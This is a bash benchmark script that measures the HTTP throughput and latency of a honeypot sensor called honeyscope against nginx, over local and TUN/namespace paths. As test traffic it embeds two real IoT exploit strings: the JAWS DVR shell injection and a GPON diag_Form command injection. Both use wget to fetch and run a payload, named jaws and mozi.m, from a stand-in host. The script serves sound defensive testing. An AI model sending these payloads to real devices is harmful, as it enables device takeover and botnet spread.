#!/usr/bin/env bash
# HTTP benchmark (issue 8): requests/s and p99 latency of honeyscope's HTTP service for the
# DVR's login page and for an exploit request, on a kernel listener and on a claimed
# address (TUN), next to nginx serving a static page of the same size in the same run.
#   sudo bench/http.sh
# Environment: DURATION (wrk's -d, default 15s), CONNS (-c, default 64), THREADS (-t,
# default 2), TUN=0 skips the claimed-address half, AUTO=1 adds nginx with
# `worker_processes auto` (labelled so).
#
# Needs root, iproute2, python3, and from Debian: wrk and nginx (installs nothing itself):
#   apt-get install -y wrk nginx-light        (or nginx)
#
# What runs, each server fresh for each measurement, its logs on tmpfs (/dev/shm) and
# deleted after (the sensor writes one JSON event per request, and a download event per
# URL an exploit names: about 1 KB a request):
#   honeyscope sense, listen-only: [[listen]] http on 127.0.0.1 (profile dvr), event log on
#     as deployed; [http] max_requests = 100000 so keep-alive is not cut short.
#   nginx 1 worker (`daemon off; worker_processes 1;`: the sensor's packet loop and
#     services run on one thread), keepalive_requests 100000, a static file the size of the
#     DVR's login page (fetched from the sensor, 1,139 bytes), requested by its own name
#     (no index lookup); access_log on (to a file, as our event log: nginx's default, a
#     write per request), off, and buffered (buffer=64k flush=1s; the sensor's event log
#     is written by its own thread through a buffer).
#   On claimed addresses: the sensor with --tun in a namespace (as bench/sessions.sh), wrk
#     in that namespace against 198.51.100.7:80. The peer there is nginx in a second
#     namespace across a veth pair (the kernel's own TCP between two namespaces; wrk in the
#     first), so both paths cross a namespace boundary through a virtual device.
# Requests: (a) GET / (the login page, 200), (b) the JAWS/MVPower DVR shell exploit,
# GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.20/jaws;sh+/tmp/jaws (404, named
# jaws-dvr-shell, one download event each), (c) the GPON diag_Form POST
# (crates/cli/tests/http.rs's shape, through a wrk Lua script), (d) nginx's static page.
# Every request to the sensor is checked against its event log (events logged / requests
# wrk counted). Also reported: the server's CPU time during the run (all its threads and,
# for nginx, its workers), and per request. The sensor has two threads: the packet loop
# with the services, and the event-log writer.
set -euo pipefail
cd "$(dirname "$0")/.."
dur=${DURATION:-15s}
conns=${CONNS:-64}
threads=${THREADS:-2}
for t in wrk nginx ip python3; do
  command -v "$t" >/dev/null || { echo "needs $t (apt-get install -y wrk nginx-light iproute2 python3)" >&2; exit 1; }
done
source bench/lib.sh
bin=$(realpath "$bin")
ulimit -n 65536 2>/dev/null || true
work=$(mktemp -d -p /dev/shm hsbench-http.XXXXXX 2>/dev/null || mktemp -d)
chmod 755 "$work"
ns=hshb-$$
peer=hshp-$$
server=
cleanup() {
  [ -n "$server" ] && kill "$server" 2>/dev/null || true
  for x in "$ns" "$peer"; do
    ip netns pids "$x" 2>/dev/null | xargs -r kill 2>/dev/null || true
    ip netns del "$x" 2>/dev/null || true
  done
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

sport=18080
nport=18081
jaws='/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.20/jaws;sh+/tmp/jaws'
cat >"$work/gpon.lua" <<'LUA'
wrk.method = "POST"
wrk.path = "/GponForm/diag_Form?images/"
wrk.headers["User-Agent"] = "Hello, World"
wrk.headers["Accept"] = "*/*"
wrk.headers["Content-Type"] = "application/x-www-form-urlencoded"
wrk.body = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.20/bins/mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0"
LUA

http_cfg() {
  cat <<TOML
[limits]
sessions = 10000
[http]
max_requests = 100000
TOML
}

# CPU time (utime + stime, clock ticks, all threads) of process PID and its children (nginx's
# workers).
cpu_ticks() {
  local t=0 x
  for x in "$1" $(pgrep -P "$1" || true); do
    [ -r "/proc/$x/stat" ] || continue
    t=$((t + $(sed 's/.*) //' "/proc/$x/stat" | awk '{print $12 + $13}')))
  done
  echo "$t"
}

# wrk_run LABEL URL [LUA] [NETNS]: appends "LABEL req/s p99_ms requests non2xx errors
# server_cpu_seconds" to $work/results (the server is $cpu_pid); keeps wrk's output in
# $work/wrk-LABEL.
cpu_pid=
wrk_run() {
  local label=$1 url=$2 lua=${3:-} netns=${4:-}
  local run=() args=(-t"$threads" -c"$conns" -d"$dur" --latency)
  [ -n "$netns" ] && run=(ip netns exec "$netns")
  [ -n "$lua" ] && args+=(-s "$lua")
  sleep 0.5
  local c0 c1
  c0=$(cpu_ticks "$cpu_pid")
  "${run[@]}" wrk "${args[@]}" "$url" >"$work/wrk-$label" 2>&1 || true
  c1=$(cpu_ticks "$cpu_pid")
  python3 - "$label" "$work/wrk-$label" "$(echo "($c1 - $c0) / $(getconf CLK_TCK)" | bc -l)" >>"$work/results" <<'PY'
import re, sys
label, text, cpu = sys.argv[1], open(sys.argv[2]).read(), float(sys.argv[3])
def ms(v, unit):
    return float(v) * {"us": 1e-3, "ms": 1.0, "s": 1e3}[unit]
rps = re.search(r"Requests/sec:\s+([\d.]+)", text)
p99 = re.search(r"^\s+99%\s+([\d.]+)(us|ms|s)\s*$", text, re.M)
reqs = re.search(r"(\d+) requests in", text)
non = re.search(r"Non-2xx or 3xx responses: (\d+)", text)
err = re.search(r"Socket errors: connect (\d+), read (\d+), write (\d+), timeout (\d+)", text)
print(label, rps.group(1) if rps else "nan", f"{ms(*p99.groups()):.3f}" if p99 else "nan",
      reqs.group(1) if reqs else 0, non.group(1) if non else 0,
      sum(map(int, err.groups())) if err else 0, f"{cpu:.2f}")
PY
  tail -1 "$work/results" >&2
}

# events DIR: "http-events download-events" in the sensor's event log.
events() {
  local f
  f=$(ls "$1"/events-*.jsonl 2>/dev/null | head -1)
  [ -n "$f" ] || { echo "0 0"; return; }
  echo "$(grep -c '"event":"http"' "$f" || true) $(grep -c 'cowrie.session.file_download' "$f" || true)"
}

# sensor_listen LABEL URL [LUA]: a fresh listen-only sensor, one wrk run, its events checked.
sensor_listen() {
  local label=$1 path=$2 lua=${3:-}
  { cat <<TOML
[[listen]]
address = "127.0.0.1:$sport"
service = "http"
profile = "dvr"
reported_port = 80
TOML
    http_cfg; } >"$work/listen.toml"
  rm -rf "$work/logs"
  "$bin" sense --config "$work/listen.toml" --tz UTC --keep-root --log-dir "$work/logs" \
    2>"$work/err-$label" &
  server=$!
  for _ in $(seq 100); do grep -q "listening on" "$work/err-$label" && break; sleep 0.1; done
  [ -n "${PERF_LABEL:-}" ] && [ "$PERF_LABEL" = "$label" ] && profile_start "$server"
  cpu_pid=$server
  wrk_run "$label" "http://127.0.0.1:$sport$path" "$lua"
  profile_stop
  kill -TERM "$server"; wait "$server" 2>/dev/null || true; server=
  echo "$label events $(events "$work/logs")" >>"$work/events"
  rm -rf "$work/logs"
}

# Optional: PERF_LABEL=LABEL records `perf record -g` on the sensor during that run into
# $PERF_OUT (default /tmp/http-LABEL.perf.data).
perf_pid=
profile_start() {
  perf record -g -p "$1" -o "${PERF_OUT:-/tmp/http-$PERF_LABEL.perf.data}" >/dev/null 2>&1 &
  perf_pid=$!
}
profile_stop() {
  [ -n "$perf_pid" ] || return 0
  kill -INT "$perf_pid" 2>/dev/null || true
  wait "$perf_pid" 2>/dev/null || true
  perf_pid=
}

# nginx_conf WORKERS ACCESS_LOG LISTEN: a throwaway config serving $work/www.
mkdir -p "$work/www" "$work/nginx-tmp"
nginx_conf() {
  cat <<NGINX
daemon off;
worker_processes $1;
pid $work/nginx.pid;
error_log $work/nginx-error.log;
events { worker_connections 4096; }
http {
  access_log $2;
  default_type text/html;
  keepalive_requests 100000;
  client_body_temp_path $work/nginx-tmp/body;
  proxy_temp_path $work/nginx-tmp/proxy;
  fastcgi_temp_path $work/nginx-tmp/fastcgi;
  uwsgi_temp_path $work/nginx-tmp/uwsgi;
  scgi_temp_path $work/nginx-tmp/scgi;
  server {
    listen $3;
    root $work/www;
  }
}
NGINX
}

# nginx_run LABEL WORKERS ACCESS_LOG LISTEN URL [NETNS]
nginx_run() {
  local label=$1 workers=$2 alog=$3 listen=$4 url=$5 netns=${6:-}
  local run=()
  [ -n "$netns" ] && run=(ip netns exec "$netns")
  nginx_conf "$workers" "$alog" "$listen" >"$work/nginx.conf"
  rm -f "$work/access.log"
  "${run[@]}" nginx -c "$work/nginx.conf" -e "$work/nginx-error.log" &
  server=$!
  for _ in $(seq 100); do [ -s "$work/nginx.pid" ] && break; sleep 0.05; done
  cpu_pid=$(cat "$work/nginx.pid" 2>/dev/null || echo "$server")
  wrk_run "$label" "$url" "" "${7:-}"
  kill -QUIT "$(cat "$work/nginx.pid")" 2>/dev/null || kill "$server" 2>/dev/null || true
  wait "$server" 2>/dev/null || true
  server=
  rm -f "$work/nginx.pid" "$work/access.log"
}

echo "wrk -t$threads -c$conns -d$dur --latency; $(nginx -v 2>&1); $(nproc) CPUs; load $(cut -d' ' -f1-3 /proc/loadavg)" >&2

# The static page: the DVR's login page as the sensor serves it.
{ cat <<TOML
[[listen]]
address = "127.0.0.1:$sport"
service = "http"
profile = "dvr"
TOML
  http_cfg; } >"$work/listen.toml"
"$bin" sense --config "$work/listen.toml" --tz UTC --keep-root --log-dir "$work/logs" 2>"$work/err-page" &
server=$!
for _ in $(seq 100); do grep -q "listening on" "$work/err-page" && break; sleep 0.1; done
python3 -c "
import urllib.request, sys
open(sys.argv[1], 'wb').write(urllib.request.urlopen('http://127.0.0.1:$sport/').read())" "$work/www/login.html"
kill -TERM "$server"; wait "$server" 2>/dev/null || true; server=
rm -rf "$work/logs"
echo "static page: $(wc -c <"$work/www/login.html") bytes" >&2

# 1. Kernel listeners on 127.0.0.1.
sensor_listen listen-login /
sensor_listen listen-jaws "$jaws"
sensor_listen listen-gpon "" "$work/gpon.lua"
nginx_run nginx1-log 1 "$work/access.log" "127.0.0.1:$nport" "http://127.0.0.1:$nport/login.html"
nginx_run nginx1-nolog 1 off "127.0.0.1:$nport" "http://127.0.0.1:$nport/login.html"
nginx_run nginx1-buflog 1 "$work/access.log combined buffer=64k flush=1s" "127.0.0.1:$nport" "http://127.0.0.1:$nport/login.html"
if [ "${AUTO:-0}" = 1 ]; then
  nginx_run nginxauto-log auto "$work/access.log" "127.0.0.1:$nport" "http://127.0.0.1:$nport/login.html"
fi

# 2. A claimed address through a TUN device; nginx across a veth pair.
if [ "${TUN:-1}" = 1 ]; then
  ip netns add "$ns"
  ip -n "$ns" link set lo up
  ip -n "$ns" addr add 203.0.113.1/32 dev lo
  { cat <<TOML
prefixes = ["198.51.100.0/24"]
[templates.t]
personality = "linux-2.6"
tcp = "reset"
profile = "dvr"
[templates.t.ports]
"tcp/80" = "http"
TOML
    http_cfg; } >"$work/tun.toml"
  tun_one() {
    local label=$1 path=$2 lua=${3:-}
    rm -rf "$work/logs"
    ip netns exec "$ns" "$bin" sense --tun hshb1 --route --tz UTC --keep-root \
      --config "$work/tun.toml" --log-dir "$work/logs" 2>"$work/err-$label" &
    server=$!
    for _ in $(seq 100); do ip -n "$ns" route show 198.51.100.0/24 | grep -q hshb1 && break; sleep 0.05; done
    local pid
    pid=$(pgrep -P "$server" -f "sense --tun hshb1" || echo "$server")
    [ -n "${PERF_LABEL:-}" ] && [ "$PERF_LABEL" = "$label" ] && profile_start "$pid"
    cpu_pid=$pid
    wrk_run "$label" "http://198.51.100.7$path" "$lua" "$ns"
    profile_stop
    kill -TERM "$pid" 2>/dev/null || true
    wait 2>/dev/null || true
    server=
    echo "$label events $(events "$work/logs")" >>"$work/events"
    rm -rf "$work/logs"
  }
  tun_one tun-login /
  tun_one tun-jaws "$jaws"
  tun_one tun-gpon "" "$work/gpon.lua"
  ip netns add "$peer"
  ip link add hshv0 netns "$ns" type veth peer name hshv1 netns "$peer"
  ip -n "$ns" addr add 192.0.2.1/24 dev hshv0
  ip -n "$peer" addr add 192.0.2.2/24 dev hshv1
  ip -n "$ns" link set hshv0 up
  ip -n "$peer" link set hshv1 up
  ip -n "$peer" link set lo up
  nginx_run veth-nginx1-log 1 "$work/access.log" "192.0.2.2:80" "http://192.0.2.2/login.html" "$peer" "$ns"
  nginx_run veth-nginx1-nolog 1 off "192.0.2.2:80" "http://192.0.2.2/login.html" "$peer" "$ns"
fi

echo
cat "$work/events" >&2
python3 - "$work/results" "$work/events" <<'PY'
import sys
rows = {}
for line in open(sys.argv[1]):
    f = line.split()
    rows[f[0]] = dict(rps=float(f[1]), p99=float(f[2]), n=int(f[3]), non2xx=int(f[4]), err=int(f[5]),
                      cpu=float(f[6]))
ev = {}
for line in open(sys.argv[2]):
    f = line.split()
    ev[f[0]] = (int(f[2]), int(f[3]))
names = {
    "listen-login": "honeyscope, kernel listener, GET / (login page)",
    "listen-jaws": "honeyscope, kernel listener, JAWS exploit (GET /shell?...)",
    "listen-gpon": "honeyscope, kernel listener, GPON exploit (POST diag_Form)",
    "nginx1-log": "nginx, 1 worker, access_log on, 127.0.0.1",
    "nginx1-nolog": "nginx, 1 worker, access_log off, 127.0.0.1",
    "nginx1-buflog": "nginx, 1 worker, access_log buffer=64k flush=1s, 127.0.0.1",
    "nginxauto-log": "nginx, worker_processes auto, access_log on, 127.0.0.1",
    "tun-login": "honeyscope, TUN claimed address, GET /",
    "tun-jaws": "honeyscope, TUN claimed address, JAWS exploit",
    "tun-gpon": "honeyscope, TUN claimed address, GPON exploit",
    "veth-nginx1-log": "nginx, 1 worker, access_log on, across a veth pair",
    "veth-nginx1-nolog": "nginx, 1 worker, access_log off, across a veth pair",
}
for k, r in rows.items():
    extra = ""
    if k in ev:
        extra = f"; events logged: {ev[k][0]:,} http, {ev[k][1]:,} downloads"
    us = r["cpu"] / r["n"] * 1e6 if r["n"] else float("nan")
    print(f"{names.get(k, k)}: {r['rps']:,.0f} req/s, p99 {r['p99']:.2f} ms, server CPU "
          f"{r['cpu']:.1f} s ({us:.1f} us a request) ({r['n']:,} requests, {r['non2xx']:,} "
          f"non-2xx, {r['err']} socket errors{extra})")
print()
for ours, peers in (("listen", ("nginx1-log", "nginx1-nolog", "nginx1-buflog", "nginxauto-log")), ("tun", ("veth-nginx1-log", "veth-nginx1-nolog"))):
    for req in ("login", "jaws", "gpon"):
        o = rows.get(f"{ours}-{req}")
        if not o:
            continue
        for p in peers:
            n = rows.get(p)
            if n and n["rps"] > 0:
                ratio = o["rps"] / n["rps"]
                print(f"ratio {ours}-{req} / {p}: {ratio:.2f} req/s "
                      f"(target >= 0.5: {'met' if ratio >= 0.5 else 'NOT met'}), "
                      f"p99 {o['p99']:.2f} vs {n['p99']:.2f} ms")
PY
